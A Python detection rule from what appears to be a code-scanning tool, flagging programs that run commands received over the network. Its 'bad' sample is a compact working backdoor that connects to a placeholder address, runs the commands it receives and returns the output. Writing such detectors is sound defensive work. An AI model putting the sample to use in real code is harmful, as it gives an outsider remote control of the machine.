"""Commands that come from the network and are run: a remote access tool in a few lines."""

from __future__ import annotations

import re
from collections.abc import Iterator

from antivenom.pycode.rules.kit import (
    Case,
    Rule,
    Seen,
    command_text,
    commanding,
    origins,
    taint_of_role,
    whence,
)

_ASKS = re.compile(r"\b(?:nslookup|dig|host|curl|wget)\s", re.IGNORECASE)
_SENDS = ("send", "fetch")


def check(case: Case) -> Iterator[Seen]:
    """A process whose command, or whose input, came from a connection."""
    for fact in case.of("process", "input"):
        taint = commanding(fact) if fact.kind == "process" else taint_of_role(fact, "data")
        sources = origins(taint, "receive", "fetch", "resolve", "download", "connect")
        if not sources:
            sources = [one for one in origins(taint, "process")[:20] if _ASKS.search(command_text(one) or "")]
        if not sources:
            continue
        answers = [one for one in case.of(*_SENDS) if fact in one.taint]
        back = " and sends the output back" if answers else ""
        source = whence(case, sources[0]) or "the network"
        yield Seen(
            94 if answers else 88,
            f"It runs commands that it gets from {source}{back}.",
            (sources[0], fact, *answers[:1]),
        )
    bots = case.of("bot")
    if bots and case.of("process"):
        yield Seen(80, "It is a chat bot that runs commands.", (bots[0], case.of("process")[0]))


RULE = Rule(
    id="remote_control",
    title="Runs commands from the network",
    attack=("T1059.006", "T1071", "T1219"),
    why="A loop that receives a command, runs it and sends the output back is a backdoor, with or without a shell.",
    bad="import socket, subprocess\ns = socket.create_connection(('192.0.2.10', 443))\nwhile True: s.send(subprocess.getoutput(s.recv(1024)).encode())",
    good="print(subprocess.getoutput('git rev-parse HEAD'))",
    references=("https://attack.mitre.org/techniques/T1219/",),
    wakes=frozenset({"process", "input", "bot"}),
    check=check,
)
